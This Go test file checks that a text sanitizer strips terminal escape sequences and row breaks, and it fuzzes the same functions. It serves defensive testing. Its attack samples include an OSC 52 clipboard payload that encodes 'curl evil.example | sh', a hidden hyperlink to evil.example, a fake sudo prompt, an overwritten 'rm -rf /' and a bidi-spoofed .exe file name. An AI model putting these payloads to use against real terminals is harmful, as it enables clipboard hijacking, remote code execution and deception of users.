package render

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// Attacks through text printed to a terminal: a page title, a file name
// or a chunk of a document carrying escape sequences.

const esc = "\x1b"

var terminalAttacks = map[string]string{
	"OSC52ClipboardWrite":     esc + "]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==" + "\x07title",
	"OSC8HiddenHyperlink":     esc + "]8;;https://evil.example" + esc + "\\click" + esc + "]8;;" + esc + "\\",
	"OSC0WindowRetitle":       esc + "]0;sudo password:" + "\x07",
	"CSIClearScreen":          esc + "[2J" + esc + "[H",
	"CSIHideText":             esc + "[8mhidden" + esc + "[0m",
	"C1SingleByteCSI":         "\u009b2J",
	"C1OSCIntroducer":         "\u009d52;c;AAAA\u009c",
	"CarriageReturnOverwrite": "rm -rf /\rsafe",
	"BidiOverrideFileName":    "invoice\u202Efdp.exe",
	"BidiIsolateSpoof":        "\u2066admin\u2069",
	"DeleteCharacter":         "a\x7fb",
}

func TestAttackTerminalEscapesAreStripped(t *testing.T) {
	for name, payload := range terminalAttacks {
		t.Run(name, func(t *testing.T) {
			for _, got := range []string{Sanitize(payload), SanitizeLine(payload)} {
				for _, r := range got {
					if isUnsafe(r) || r == '\r' {
						t.Fatalf("%q survived as %q", payload, got)
					}
				}
			}
		})
	}
}

func TestAttackTitleForgesTableRows(t *testing.T) {
	got := SanitizeLine("Notes\n42\tmd\t1\t1 KB\tFake row\t/etc/passwd")
	if strings.ContainsAny(got, "\n\t") {
		t.Fatalf("a one-line field kept a row break: %q", got)
	}
}

func TestSanitizeKeepsOrdinaryText(t *testing.T) {
	for _, s := range []string{"Café — naïve 日本語 👩‍💻", "line one\nline two\tcol"} {
		if Sanitize(s) != s {
			t.Errorf("Sanitize(%q) = %q", s, Sanitize(s))
		}
	}
}

// FuzzSanitize: whatever goes in, nothing a terminal interprets comes out,
// one-line text has no row breaks, and sanitizing is idempotent.
func FuzzSanitize(f *testing.F) {
	for _, p := range terminalAttacks {
		f.Add(p)
	}
	f.Add("plain text\nwith lines\tand tabs")
	f.Fuzz(func(t *testing.T, s string) {
		got, line := Sanitize(s), SanitizeLine(s)
		for _, out := range []string{got, line} {
			if !utf8.ValidString(out) {
				t.Fatalf("%q: invalid UTF-8 kept in %q", s, out)
			}
			for _, r := range out {
				if isUnsafe(r) {
					t.Fatalf("%q: unsafe rune %U kept", s, r)
				}
			}
		}
		if strings.ContainsAny(line, "\n\t") {
			t.Fatalf("SanitizeLine(%q) = %q keeps a row break", s, line)
		}
		if Sanitize(got) != got || SanitizeLine(line) != line {
			t.Fatalf("not idempotent on %q", s)
		}
	})
}
